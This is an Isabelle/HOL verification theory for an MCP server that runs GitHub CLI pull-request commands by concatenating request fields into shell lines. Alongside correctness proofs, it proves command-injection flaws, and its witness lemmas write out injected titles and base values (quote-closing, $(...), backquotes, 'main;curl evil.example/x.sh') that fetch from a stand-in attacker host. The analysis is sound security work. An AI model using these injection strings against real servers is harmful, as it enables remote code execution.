(* ===== verification/Spec2Isabelle.thy ===== *)
theory Spec2Isabelle
  imports Readme Substitution Argv_Read Node_Session
begin

text \<open>
  \<^bold>\<open>A verification development for limited-github-cli-mcp.\<close>

  The program (\<^verbatim>\<open>src/src/index.ts\<close>) is a server that offers four pull-request
  operations as tools and carries each out by running the \<^verbatim>\<open>gh\<close> command-line
  client through a shell.  A request names a tool and carries an untyped
  argument value; the handler checks the value with the tool's type guard,
  assembles a command line by string concatenation, runs it with
  \<^verbatim>\<open>execSync\<close> and wraps the output, or the failure, in a reply.

  \<^bold>\<open>Parts of the program and where they are modelled.\<close>

  \<^descr>[\<open>Gh_Prelude\<close>] Shared vocabulary: fact collections, quoting, and the
  decimal notation of a natural number with its read-back and injectivity.

  \<^descr>[\<open>Js_Value\<close>] The values of type \<^verbatim>\<open>any\<close> that reach the guards (datatype
  \<open>jsval\<close>) and the language primitives the source applies to them:
  \<open>typeof\<close>, \<open>get_prop\<close> (property access), \<open>truthy\<close> (the test of an
  \<^verbatim>\<open>if\<close>), \<open>Number_isInteger\<close>, \<open>greater_zero\<close>, \<open>array_includes\<close> and
  \<open>to_string\<close> (interpolation in a template literal).

  \<^descr>[\<open>Validators\<close>] The guards \<^verbatim>\<open>isValidCreatePrArgs\<close>, \<^verbatim>\<open>isValidListPrArgs\<close>,
  \<^verbatim>\<open>isValidViewPrArgs\<close>, \<^verbatim>\<open>isValidCommentPrArgs\<close> (lines 36-96), conjunct by
  conjunct, the interfaces they guard as records, and the typed reading of a
  value (\<open>as_CreatePrArgs\<close>, ...).  Lemmas: what each guard accepts, stated on
  the properties of the value; the reading is defined exactly when the guard
  holds.

  \<^descr>[\<open>Commands\<close>] The command line each case of the handler assembles
  (\<open>create_pr_command\<close>, \<open>list_prs_command\<close>, \<open>view_pr_command\<close>,
  \<open>comment_pr_command\<close>; lines 225-231, 267-272, 308-309, 345-346), with one
  rebinding of \<open>command\<close> per \<^verbatim>\<open>command += ...\<close>.  Lemmas: on every accepted
  value the untyped definitions compute the command line written over the
  typed record (\<open>create_command\<close>, ...).

  \<^descr>[\<open>Executor\<close>] \<^verbatim>\<open>executeGhCommand\<close> (lines 13-25) over a \<open>runtime\<close>: the
  record of what the source calls and does not define (\<^verbatim>\<open>execSync\<close>, number
  formatting beyond \<open>2 ^ 53\<close>, the message of an \<^verbatim>\<open>McpError\<close>).  The world that
  \<^verbatim>\<open>execSync\<close> changes is passed explicitly and is a type variable;
  \<open>recording\<close> is the runtime whose world is the list of command lines run.

  \<^descr>[\<open>Dispatcher\<close>] The \<^verbatim>\<open>CallToolRequestSchema\<close> handler (lines 215-380):
  \<open>handle_create_pr\<close>, \<open>handle_list_prs\<close>, \<open>handle_view_pr\<close>,
  \<open>handle_comment_pr\<close> are the four cases with their guard, command line and
  \<^verbatim>\<open>try\<close>/\<^verbatim>\<open>catch\<close>, \<open>handle_default\<close> is the default, and \<open>call_tool\<close> is
  the \<^verbatim>\<open>switch\<close>.  A thrown value is
  \<open>Inl\<close>, a reply \<open>Inr\<close>.  \<open>table_call_tool\<close> is the specification as a
  dispatch table and \<open>call_tool\<close> is shown to implement it; the theorems give
  the outcome on every branch: unknown tool, rejected arguments, failed
  command, successful command.

  \<^descr>[\<open>Shell_Words\<close>] The shell that \<^verbatim>\<open>execSync\<close> starts, as far as the command
  lines of the program need it: \<open>sh_parse\<close> splits a command string into
  commands (separated by \<^verbatim>\<open>;\<close>) and words (separated by blanks), reading text
  between double quotes as part of a word.  A line with \<^verbatim>\<open>$\<close>, a backquote, a
  backslash, another metacharacter or an unclosed quote has no parse in
  \<open>sh_parse\<close>: the model says nothing about it.  \<open>render\<close> writes a list of
  tokens (bare or quoted words) as a line, and \<open>sh_parse_render\<close> reads safe
  tokens back; conversely the words of a parse hold no double quote
  (\<open>lex_quote_safe\<close>), and those of a line without one are plain
  (\<open>lex_bare_safe\<close>).

  \<^descr>[\<open>Argv\<close>] The command templates word by word (\<open>tokens_of\<close>), the line passed
  to \<^verbatim>\<open>execSync\<close> (\<open>gh_line\<close>, line 15), the argument vector a request stands
  for (\<open>argv\<close>) and the arguments on which the shell reads exactly that vector
  (\<open>shell_safe\<close>).  Lemmas: the command line of \<open>Commands\<close> is the rendering of
  the tokens; the parse of the line on safe arguments; the parse of the line on
  a title that closes its quote (\<open>injection\<close>), on a base with a blank and on
  a base that ends the command (\<open>base_injection\<close>).

  \<^descr>[\<open>Argv_Read\<close>] A reader of argument vectors (\<open>read_argv\<close>): the words
  \<^verbatim>\<open>gh pr <verb>\<close>, then the flags in the order of the templates, numbers read
  digit by digit.  \<open>canonical\<close> forgets what the templates drop (an empty
  optional text, a limit of zero or \<^verbatim>\<open>NaN\<close>, a draft flag that is false).
  Lemmas: \<open>read_argv\<close> accepts exactly the vectors of canonical arguments and
  returns them (\<open>read_argv_iff\<close>), so \<open>argv\<close> is injective up to \<open>canonical\<close>;
  the shell reads the line of arguments as their vector exactly when they are
  \<open>shell_safe\<close> (\<open>sh_parse_gh_line_iff\<close>); the command line is not injective: a title that holds \<^verbatim>\<open>" --body "\<close> gives the line of
  a request with a body (\<open>command_collision\<close>).

  \<^descr>[\<open>Node_Runtime\<close>] An instance of \<open>runtime\<close> in terms of how the started
  process ends (\<open>proc_end\<close>: exit status with output and error output, or no
  process): \<open>node_execSync\<close> returns the output on status zero and throws an
  \<^verbatim>\<open>Error\<close> naming the command line and the error output otherwise;
  \<open>mcp_message\<close> is the message the SDK gives an \<^verbatim>\<open>McpError\<close>.  Lemmas: the
  reply of a valid tool call from the exit status; on this runtime a valid call
  never throws.

  \<^descr>[\<open>Catalogue\<close>] The four entries the \<^verbatim>\<open>ListToolsRequestSchema\<close> handler
  publishes (lines 125-213) as records (\<open>create_pr_info\<close>, ..., \<open>list_tools\<close>),
  and the meaning of the schema keywords they use (\<open>conforms\<close>).  Lemmas: the
  published names are the dispatched names; the published properties are the
  properties the guards read; on a JSON object a guard accepts exactly what the
  published schema admits, up to the range of the pull-request number.

  \<^descr>[\<open>Server\<close>] The process: \<open>constructor\<close> (lines 101-122),
  \<open>setupToolHandlers\<close>, \<open>run\<close> (lines 383-387), \<open>main\<close> (lines 390-391), the
  interrupt listener \<open>on_sigint\<close> and the error callback \<open>onerror\<close>, as
  operations on the record \<open>process\<close>; \<open>step\<close> handles one event (start,
  request, interrupt, transport error), \<open>trans\<close> is the same as an inductive
  relation, \<open>reachable\<close> the states of a process.  The handler of line 215
  is registered with \<open>CallToolRequestSchema\<close>: \<open>respond\<close> calls it only
  for a tool call whose arguments are absent or an object that is no array,
  and answers any other with \<open>SchemaError\<close>.  Lemmas: the invariant
  \<open>wired\<close> of reachable states by rule induction; a list of requests is
  served as by \<open>serve\<close>, one after the other; on the recording runtime the
  world at the end is the list of the command lines of the valid calls; only
  a tool call that conforms to the schema, names a tool and passes its guard
  changes the world.

  \<^descr>[\<open>Session\<close>] What holds of every run of the process: the responses sent
  are well formed (\<open>wf_response\<close>: the catalogue, a reply envelope of one
  text block, a protocol failure that is never an \<^verbatim>\<open>InternalError\<close>), a run
  sends at most one response per request and runs at most one command per tool
  call, and an interrupt among the events ends the process with status \<open>0\<close>.

  \<^descr>[\<open>Shell_Session\<close>] The lines a started process has run, as the lines
  \<open>gh_line\<close> of the validated arguments of its requests (\<open>request_args\<close>), and
  their parse on safe arguments.

  \<^descr>[\<open>Node_Session\<close>] The started process on the runtime of
  \<open>Node_Runtime\<close>, with the \<^verbatim>\<open>gh\<close> client as a parameter (\<open>gh_client\<close>: how
  a run ends, given the line and the lines run before).  \<open>answer\<close> is what
  the specification promises for one request, over the validated arguments.
  Lemmas: the response at every position of a session is the \<open>answer\<close> to
  the request at that position; with a client that does not remember, the
  responses are the answers to the requests, each on its own.

  \<^descr>[\<open>Readme\<close>] The feature list and the four usage examples of the README
  (lines 392-476 of the source file) as data, and its statement of purpose as
  the predicate \<open>pr_operation\<close> on commands.  Lemmas: the documented tools,
  parameters and states are the published ones; each example conforms to the
  schema of its tool, passes its guard, and is run as the one command it asks
  for.

  \<^descr>[\<open>Shell_Subst\<close>] The shell with command substitution between double
  quotes, written \<^verbatim>\<open>$(...)\<close> or between backquotes: \<open>sh_run\<close> gives the
  commands a line runs, those of its
  substitutions first, with what a command line prints as the parameter
  \<open>out\<close>.  The reader recurses on the text of a substitution; its termination
  is proved from \<open>close_paren_length\<close> and \<open>close_backquote_length\<close>.  Lemmas: \<open>sh_run\<close> agrees with
  \<open>sh_parse\<close> wherever the latter reads a line; the commands of a substitution
  inside a quoted word; nested substitutions to any depth.

  \<^descr>[\<open>Substitution\<close>] The command line of a title that is a substitution, in
  either notation, under \<open>sh_run\<close>.

  \<^descr>[This theory] holds the properties that span the components, from the
  request to the words the shell passes to \<^verbatim>\<open>gh\<close>: the concatenated line
  implements the argument vector on safe arguments and on no others, for one
  request, and on safe arguments for a whole session; \<^verbatim>\<open>view_pr\<close> always runs one command; a title can run any
  command, by closing its quote or by a substitution that holds no quote; an
  unquoted base can run any command without a quote; two different requests
  can have one command line.

  \<^bold>\<open>Choices and bounds.\<close>  A finite number is a rational, which covers every
  double.  The decimal notation is used for integers of magnitude at most
  \<open>2 ^ 53\<close>, where JavaScript prints exactly the digits of the value; beyond
  that, and for fractions, the notation is the runtime's \<open>numberToString\<close>, a
  parameter of every definition that prints a number.  The reader of
  \<open>Argv_Read\<close> accepts numbers in that range only, which is where \<open>argv\<close>
  determines the number.  No definition uses fuel:
  the program has no loop, and every function of the model is total.  The
  shell's word splitting recurses on the rest of the line; the reader with
  substitution recurses on the text between the parentheses as well, which is
  shorter than the line, and reads substitutions nested to any depth.  The
  closing parenthesis of a substitution is found by counting parentheses, quoted
  or not; where the shell would match differently the text inside has an
  unclosed quote or a parenthesis outside quotes, and the result is \<open>None\<close>.

  \<^bold>\<open>Not modelled.\<close>  What the \<^verbatim>\<open>gh\<close> client does is outside the program: a run
  of it is the parameter \<open>execSync\<close> of \<open>runtime\<close>, and \<open>Node_Runtime\<close> says
  only how a run ends.  Of \<^verbatim>\<open>execSync\<close>, the options other than the encoding,
  signals, timeouts and output limits are not modelled.  Of the MCP SDK, the
  routing of a request to its handler (\<open>receive\<close>) and the parse of a tool
  call with the request schema (\<open>CallToolRequestSchema\<close>) are modelled from
  the specification; the JSON-RPC framing, request identifiers, the error
  code of the SDK's own refusals and the stdio transport are not: they are
  code of the SDK, which the source only calls.  Of the shell, substitution
  outside double quotes (its result would be split into words), variables,
  backslash escapes, single quotes, redirection and globbing are not
  modelled: a line that uses them has no parse.  The digits JavaScript prints
  for a number that is no integer of magnitude up to \<open>2 ^ 53\<close> are the
  algorithm of \<^verbatim>\<open>Number.prototype.toString\<close>, which is not part of the source;
  they stay the parameter \<open>numberToString\<close>, and every lemma about a
  fractional or large \<^verbatim>\<open>limit\<close> holds for whatever it prints.  Of the README, the prerequisites and the security
  section are prose.  The imports (lines 1-11) declare what \<open>runtime\<close> and
  \<open>Server\<close> take from outside.  The interrupt listener is asynchronous; its
  continuation after \<^verbatim>\<open>close\<close> runs before any other event is delivered, so
  \<open>on_sigint\<close> is one step, and \<^verbatim>\<open>close\<close> is taken to succeed (the source has
  no handler for its failure).  A process without an interrupt listener is
  given the exit status 130; no reachable state is one.

  \<^bold>\<open>Coverage.\<close>  Every function, method and top-level statement of
  \<^verbatim>\<open>src/src/index.ts\<close> has a definition here, and every branch of the handler
  is a case of \<open>call_tool\<close>.  What is left out is named above: it is the
  behaviour of code the program calls and does not contain (the \<^verbatim>\<open>gh\<close> client,
  the shell beyond the constructs the templates and the injections use, the
  transport of the SDK, the printing of non-integral numbers), which enters the
  development as parameters, so that no theorem depends on a guess about it.
\<close>

section \<open>The examples of the specification, end to end\<close>

text \<open>
  The two worked examples of the specification's section on testable
  properties, from the request to the command line that is run and the reply
  that is returned, on the recording runtime with a client that echoes nothing.
\<close>

lemma comment_pr_example:
  "call_tool (recording (\<lambda>line. Stdout []) (\<lambda>q. []))
     \<lparr>name = ''comment_pr'',
      arguments = JObj [(''number'', JNum (Fin 123)), (''body'', JStr ''LGTM!'')]\<rparr> [] =
   (Inr (text_reply []), [''gh pr comment 123 --body '' @ quoted ''LGTM!''])"
  by (simp add: call_tool_def handle_comment_pr_eq isValidCommentPrArgs_def
      comment_pr_command_def run_command_def)

lemma list_prs_example:
  "call_tool (recording (\<lambda>line. Stdout []) (\<lambda>q. []))
     \<lparr>name = ''list_prs'',
      arguments = JObj [(''state'', JStr ''open''), (''limit'', JNum (Fin 5))]\<rparr> [] =
   (Inr (text_reply []), [''gh pr list --state open --limit 5''])"
  by (simp add: call_tool_def handle_list_prs_eq isValidListPrArgs_def pr_states_def
      array_includes_def list_prs_command_def bare_flag_def run_command_def)

section \<open>From the request to the shell\<close>

text \<open>
  The line a request makes the server pass to \<^verbatim>\<open>execSync\<close>, through guard,
  command line and executor, and what the shell makes of it.
\<close>

lemma recorded_line:
  assumes "validate t args = Some a"
  shows "snd (call_tool (recording rsp fmt) \<lparr>name = tool_name t, arguments = args\<rparr> tr) =
           tr @ [gh_line fmt a]"
  using assms
  by (simp add: call_tool_tool validate_Some_valid run_command_recording validate_command
      gh_line_def)

lemma validate_title:
  "validate CreatePr (JObj [(''title'', JStr t)]) = Some (titled t)"
  by (simp add: as_CreatePrArgs_def isValidCreatePrArgs_def titled_def)

lemma validate_base:
  "validate ListPrs (JObj [(''base'', JStr b)]) = Some (based b)"
  by (simp add: as_ListPrArgs_def isValidListPrArgs_def based_def)

text \<open>
  Claim C6 (refinement).  The string concatenation implements the argument
  vector on safe arguments, and only there.  When the arguments of a request
  are valid and every text is safe where its template writes it (between
  double quotes: no double quote, \<^verbatim>\<open>$\<close>, backquote or backslash; bare: plain
  characters only), the server runs one line, and the shell parses it as the
  single command whose words are \<^verbatim>\<open>gh\<close> and the texts of the template's
  tokens: one of the four pull-request operations the README documents.
  Conversely, when the numbers are printed digit by digit and the shell parses
  the line as that command, every text is safe where it is written.
\<close>

theorem safe_request_runs_argv:
  assumes "validate t args = Some a"
  shows "(shell_safe fmt a \<longrightarrow>
            map sh_parse (snd (call_tool (recording rsp fmt)
              \<lparr>name = tool_name t, arguments = args\<rparr> [])) = [Some [argv fmt a]]) \<and>
         (readable a \<and>
            map sh_parse (snd (call_tool (recording rsp fmt)
              \<lparr>name = tool_name t, arguments = args\<rparr> [])) = [Some [argv fmt a]] \<longrightarrow>
            shell_safe fmt a) \<and>
         pr_operation (argv fmt a)"
  using assms by (auto simp: recorded_line sh_parse_gh_line_iff sh_parse_gh_line argv_pr_operation)

theorem safe_request_runs_argv_witness:
  "map sh_parse (snd (call_tool (recording (\<lambda>line. Stdout []) (\<lambda>q. []))
       \<lparr>name = ''comment_pr'',
        arguments = JObj [(''number'', JNum (Fin 123)), (''body'', JStr ''Looks good; merge it!'')]\<rparr> [])) =
     [Some [[''gh'', ''pr'', ''comment'', ''123'', ''--body'', ''Looks good; merge it!'']]]"
proof -
  let ?args = "JObj [(''number'', JNum (Fin 123)), (''body'', JStr ''Looks good; merge it!'')]"
  let ?a = "CommentArgs \<lparr>cm_number = 123, cm_body = ''Looks good; merge it!''\<rparr>"
  have v: "validate CommentPr ?args = Some ?a"
    by (simp add: as_CommentPrArgs_def isValidCommentPrArgs_def)
  have "quote_safe ''Looks good; merge it!''"
    by (simp add: classify_def expansion_chars_def meta_chars_def)
  then have s: "shell_safe (\<lambda>q. []) ?a"
    by (simp add: shell_safe_comment)
  from safe_request_runs_argv [OF v, of "\<lambda>q. []" "\<lambda>line. Stdout []"] s show ?thesis
    by (simp add: argv_def)
qed

text \<open>
  Claim C8 (safety).  \<^verbatim>\<open>view_pr\<close> cannot be made to run anything else: for every
  argument value its guard accepts, with a number up to \<open>2 ^ 53\<close>, the one line
  the server runs is parsed by the shell as the single command
  \<^verbatim>\<open>gh pr view <digits of the number>\<close>.
\<close>

theorem view_request_runs_one_command:
  assumes "validate ViewPr args = Some (ViewArgs a)" and "vw_number a \<le> 2 ^ 53"
  shows "map sh_parse (snd (call_tool (recording rsp fmt)
             \<lparr>name = ''view_pr'', arguments = args\<rparr> [])) =
           [Some [[''gh'', ''pr'', ''view'', decimal (vw_number a)]]]"
  using assms recorded_line [of ViewPr args "ViewArgs a" rsp fmt "[]"]
  by (simp add: sh_parse_view_line)

theorem view_request_runs_one_command_witness:
  "map sh_parse (snd (call_tool (recording (\<lambda>line. Stdout []) (\<lambda>q. []))
       \<lparr>name = ''view_pr'', arguments = JObj [(''number'', JNum (Fin 42))]\<rparr> [])) =
     [Some [[''gh'', ''pr'', ''view'', ''42'']]]"
proof -
  have v: "validate ViewPr (JObj [(''number'', JNum (Fin 42))]) = Some (ViewArgs \<lparr>vw_number = 42\<rparr>)"
    by (simp add: as_ViewPrArgs_def isValidViewPrArgs_def)
  from view_request_runs_one_command [OF v, of "\<lambda>line. Stdout []" "\<lambda>q. []"] show ?thesis
    by simp
qed

text \<open>
  Claim C7 (safety).  The quoting of the templates does not confine
  caller-supplied text.  For every command \<open>cmd\<close> made of plain words there is
  a title, a string that validation accepts like any other, for which the one
  line the server runs for \<^verbatim>\<open>create_pr\<close> is parsed by the shell into three
  commands, the second of which is \<open>cmd\<close>: a request can make the server run
  any program.
\<close>

theorem title_runs_any_command:
  assumes "cmd \<noteq> []" and "list_all bare_safe cmd"
  shows "map sh_parse (snd (call_tool (recording rsp fmt)
             \<lparr>name = ''create_pr'', arguments = JObj [(''title'', JStr (injection cmd))]\<rparr> [])) =
           [Some [[''gh'', ''pr'', ''create'', ''--title'', ''x''], cmd, [''echo'', []]]]"
  using assms
    recorded_line [OF validate_title [of "injection cmd"], of rsp fmt "[]"]
  by (simp add: sh_parse_injected)

theorem title_runs_any_command_witness:
  "map sh_parse (snd (call_tool (recording (\<lambda>line. Stdout []) (\<lambda>q. []))
       \<lparr>name = ''create_pr'',
        arguments = JObj [(''title'', JStr (injection [''curl'', ''evil.example/x.sh'']))]\<rparr> [])) =
     [Some [[''gh'', ''pr'', ''create'', ''--title'', ''x''], [''curl'', ''evil.example/x.sh''],
            [''echo'', []]]]"
proof -
  have "list_all bare_safe [''curl'', ''evil.example/x.sh'']"
    by (simp add: bare_safe_def classify_def expansion_chars_def meta_chars_def)
  from title_runs_any_command [OF _ this, of "\<lambda>line. Stdout []" "\<lambda>q. []"] show ?thesis
    by simp
qed

text \<open>
  Claim C37 (safety).  The base branch of \<^verbatim>\<open>list_prs\<close> is written without
  quotes.  For every command \<open>cmd\<close> made of plain words and every plain word
  \<open>b\<close>, the base \<^verbatim>\<open>b;cmd\<close> holds no quote character, passes validation, and
  the one line the server runs is parsed by the shell into two commands:
  \<^verbatim>\<open>gh pr list --base b\<close> and \<open>cmd\<close>.  The second tool runs any program as
  well, and without a quote in the request.
\<close>

theorem base_runs_any_command:
  assumes "bare_safe b" and "cmd \<noteq> []" and "list_all bare_safe cmd"
  shows "map sh_parse (snd (call_tool (recording rsp fmt)
             \<lparr>name = ''list_prs'', arguments = JObj [(''base'', JStr (base_injection b cmd))]\<rparr> [])) =
           [Some [[''gh'', ''pr'', ''list'', ''--base'', b], cmd]] \<and>
         dquote \<notin> set (base_injection b cmd)"
proof -
  from assms have "dquote \<notin> set (base_injection b cmd)"
    using render_words_chars [of cmd] by (auto simp: base_injection_def bare_safe_def list_all_iff
        classify_def)
  with assms recorded_line [OF validate_base [of "base_injection b cmd"], of rsp fmt "[]"]
  show ?thesis
    by (simp add: sh_parse_base_injected)
qed

theorem base_runs_any_command_witness:
  "map sh_parse (snd (call_tool (recording (\<lambda>line. Stdout []) (\<lambda>q. []))
       \<lparr>name = ''list_prs'', arguments = JObj [(''base'', JStr ''main;curl evil.example/x.sh'')]\<rparr> [])) =
     [Some [[''gh'', ''pr'', ''list'', ''--base'', ''main''], [''curl'', ''evil.example/x.sh'']]]"
proof -
  have "bare_safe ''main''" and "list_all bare_safe [''curl'', ''evil.example/x.sh'']"
    by (simp_all add: bare_safe_def classify_def expansion_chars_def meta_chars_def)
  from base_runs_any_command [OF this(1) _ this(2), of "\<lambda>line. Stdout []" "\<lambda>q. []"] show ?thesis
    by (simp add: base_injection_def)
qed

text \<open>
  Claim C16 (safety).  The command line does not determine the request.  A
  \<^verbatim>\<open>create_pr\<close> request whose title is \<^verbatim>\<open>t" --body "b\<close> and a request with
  title \<open>t\<close> and body \<open>b\<close> are both valid, differ as argument vectors, and are
  not told apart by the server: on every runtime and in every world the
  handler runs the same line and returns the same result for both.
\<close>

theorem command_lines_collide:
  assumes "b \<noteq> []"
  shows "call_tool rt \<lparr>name = ''create_pr'',
             arguments = JObj [(''title'', JStr (body_in_title t b))]\<rparr> w =
         call_tool rt \<lparr>name = ''create_pr'',
             arguments = JObj [(''title'', JStr t), (''body'', JStr b)]\<rparr> w \<and>
         map_option (argv fmt) (validate CreatePr (JObj [(''title'', JStr (body_in_title t b))])) \<noteq>
         map_option (argv fmt) (validate CreatePr (JObj [(''title'', JStr t), (''body'', JStr b)]))"
proof -
  let ?r = "JObj [(''title'', JStr (body_in_title t b))]"
  let ?s = "JObj [(''title'', JStr t), (''body'', JStr b)]"
  have s: "validate CreatePr ?s = Some (with_body t b)"
    by (simp add: as_CreatePrArgs_def isValidCreatePrArgs_def with_body_def)
  note r = validate_title [of "body_in_title t b"]
  from assms have "tool_command CreatePr (numberToString rt) ?r =
      tool_command CreatePr (numberToString rt) ?s"
    by (simp add: validate_command [OF r] validate_command [OF s] command_collision
        del: tool_command.simps)
  then have "call_tool rt \<lparr>name = tool_name CreatePr, arguments = ?r\<rparr> w =
      call_tool rt \<lparr>name = tool_name CreatePr, arguments = ?s\<rparr> w"
    using validate_Some_valid [OF r] validate_Some_valid [OF s]
    by (simp only: call_tool_tool if_True)
  moreover from assms
  have "map_option (argv fmt) (validate CreatePr ?r) \<noteq> map_option (argv fmt) (validate CreatePr ?s)"
    by (simp only: r s option.map option.inject argv_no_collision not_False_eq_True)
  ultimately show ?thesis
    by simp
qed

theorem command_lines_collide_witness:
  "call_tool (recording (\<lambda>line. Stdout []) (\<lambda>q. []))
       \<lparr>name = ''create_pr'', arguments = JObj [(''title'', JStr (''Fix'' @ [dquote] @ '' --body '' @ [dquote] @ ''x''))]\<rparr> [] =
   (Inr (text_reply []), [''gh pr create --title '' @ quoted ''Fix'' @ '' --body '' @ quoted ''x'']) \<and>
   call_tool (recording (\<lambda>line. Stdout []) (\<lambda>q. []))
       \<lparr>name = ''create_pr'', arguments = JObj [(''title'', JStr ''Fix''), (''body'', JStr ''x'')]\<rparr> [] =
   (Inr (text_reply []), [''gh pr create --title '' @ quoted ''Fix'' @ '' --body '' @ quoted ''x''])"
  using command_lines_collide [of "''x''" "recording (\<lambda>line. Stdout []) (\<lambda>q. [])" "''Fix''" "[]" "\<lambda>q. []"]
  by (simp add: call_tool_def handle_create_pr_eq isValidCreatePrArgs_def create_pr_command_def
      run_command_def flag_def body_in_title_def quoted_def)

section \<open>A session, from the requests to the shell\<close>

text \<open>
  Claim C14 (refinement).  A whole session on safe arguments: when every valid
  tool call among the requests has arguments that are safe where its template
  writes them, the lines the started server has run at the end are parsed by the
  shell, one by one and in the order of the requests, as the single command
  \<^verbatim>\<open>gh\<close> with the argument vector of the call; requests that are no valid tool
  call run nothing.
\<close>

theorem safe_session_runs_argvs:
  assumes "list_all (shell_safe fmt) (List.map_filter request_args reqs)"
  shows "map sh_parse (world (exec (recording rsp fmt) (Start Connects # map Receive reqs)
             (constructor []))) =
           map (\<lambda>a. Some [argv fmt a]) (List.map_filter request_args reqs)"
  using assms by (rule session_argvs)

theorem safe_session_runs_argvs_witness:
  "map sh_parse (world (exec (recording (\<lambda>line. Stdout []) (\<lambda>q. []))
       (Start Connects # map Receive
          [CallToolRequest \<lparr>name = ''view_pr'', arguments = JObj [(''number'', JNum (Fin 7))]\<rparr>,
           ListToolsRequest,
           CallToolRequest \<lparr>name = ''view_pr'', arguments = JObj [(''number'', JNum (Fin 0))]\<rparr>,
           CallToolRequest \<lparr>name = ''list_prs'', arguments = JObj [(''state'', JStr ''open'')]\<rparr>])
       (constructor []))) =
     [Some [[''gh'', ''pr'', ''view'', ''7'']], Some [[''gh'', ''pr'', ''list'', ''--state'', ''open'']]]"
proof -
  let ?reqs = "[CallToolRequest \<lparr>name = ''view_pr'', arguments = JObj [(''number'', JNum (Fin 7))]\<rparr>,
           ListToolsRequest,
           CallToolRequest \<lparr>name = ''view_pr'', arguments = JObj [(''number'', JNum (Fin 0))]\<rparr>,
           CallToolRequest \<lparr>name = ''list_prs'', arguments = JObj [(''state'', JStr ''open'')]\<rparr>]"
  have args: "List.map_filter request_args ?reqs =
      [ViewArgs \<lparr>vw_number = 7\<rparr>, ListArgs \<lparr>ls_state = Some Open, ls_base = None, ls_limit = None\<rparr>]"
    by (simp add: List.map_filter_simps as_ViewPrArgs_def isValidViewPrArgs_def
        as_ListPrArgs_def isValidListPrArgs_def array_includes_pr_states)
  have safe: "list_all (shell_safe (\<lambda>q. [])) (List.map_filter request_args ?reqs)"
    unfolding args by (simp add: shell_safe_view shell_safe_list opt_all_def)
  from safe_session_runs_argvs [OF safe, of "\<lambda>line. Stdout []"] show ?thesis
    unfolding args by (simp add: argv_def bare_flag_tokens_def limit_tokens_def del: exec_simps)
qed

section \<open>Command substitution\<close>

text \<open>
  The same lines under the shell that expands \<^verbatim>\<open>$(...)\<close> between double
  quotes (\<open>sh_run\<close>, with \<open>out\<close> for what a command line prints).
\<close>



text \<open>
  Claim C11 (safety).  Escaping the double quote would not confine the text
  either.  For every command \<open>cmd\<close> of plain words the titles \<^verbatim>\<open>$(cmd)\<close> and
  \<^verbatim>\<open>`cmd`\<close> hold no double quote, pass validation, and stay between the quotes
  of the template; for each of them the shell runs \<open>cmd\<close> first and then
  \<^verbatim>\<open>gh\<close>, with what \<open>cmd\<close> printed as the title.
\<close>

theorem substitution_runs_any_command:
  assumes "list_all bare_safe cmd" and "t \<in> {substitution (render (map Bare cmd)),
      backquoted (render (map Bare cmd))}"
  shows "dquote \<notin> set t \<and>
         map (sh_run out) (snd (call_tool (recording rsp fmt)
             \<lparr>name = ''create_pr'', arguments = JObj [(''title'', JStr t)]\<rparr> [])) =
           [Some [cmd, [''gh'', ''pr'', ''create'', ''--title'', out (render (map Bare cmd))]]]"
proof -
  let ?inner = "render (map Bare cmd)"
  from assms(1) have run: "sh_run out ?inner = Some [cmd]"
    by (rule sh_run_words)
  have "sh_run out (gh_line fmt (titled t)) =
      Some ([cmd] @ [[''gh'', ''pr'', ''create'', ''--title'', out ?inner]])"
  proof (cases "t = substitution ?inner")
    case True
    from balanced_words [OF assms(1)] run show ?thesis
      unfolding True by (rule sh_run_substituted)
  next
    case False
    with assms(2) have t: "t = backquoted ?inner"
      by simp
    from no_quote_in_backquoted(2) [OF assms(1)] run show ?thesis
      unfolding t by (rule sh_run_backquoted)
  qed
  with assms show ?thesis
    using recorded_line [OF validate_title [of t], of rsp fmt "[]"]
    by (auto simp: no_quote_in_substitution no_quote_in_backquoted(1))
qed

theorem substitution_runs_any_command_witness:
  "map (sh_run (\<lambda>line. ''pwned'')) (snd (call_tool (recording (\<lambda>line. Stdout []) (\<lambda>q. []))
       \<lparr>name = ''create_pr'',
        arguments = JObj [(''title'', JStr (substitution ''curl evil.example/x.sh''))]\<rparr> [])) =
     [Some [[''curl'', ''evil.example/x.sh''], [''gh'', ''pr'', ''create'', ''--title'', ''pwned'']]] \<and>
   map (sh_run (\<lambda>line. ''pwned'')) (snd (call_tool (recording (\<lambda>line. Stdout []) (\<lambda>q. []))
       \<lparr>name = ''create_pr'',
        arguments = JObj [(''title'', JStr (backquoted ''curl evil.example/x.sh''))]\<rparr> [])) =
     [Some [[''curl'', ''evil.example/x.sh''], [''gh'', ''pr'', ''create'', ''--title'', ''pwned'']]]"
proof -
  have "list_all bare_safe [''curl'', ''evil.example/x.sh'']"
    by (simp add: bare_safe_def classify_def expansion_chars_def meta_chars_def)
  from substitution_runs_any_command [OF this, of "substitution ''curl evil.example/x.sh''"
      "\<lambda>line. ''pwned''" "\<lambda>line. Stdout []" "\<lambda>q. []"]
    substitution_runs_any_command [OF this, of "backquoted ''curl evil.example/x.sh''"
      "\<lambda>line. ''pwned''" "\<lambda>line. Stdout []" "\<lambda>q. []"]
  show ?thesis
    by simp
qed


end
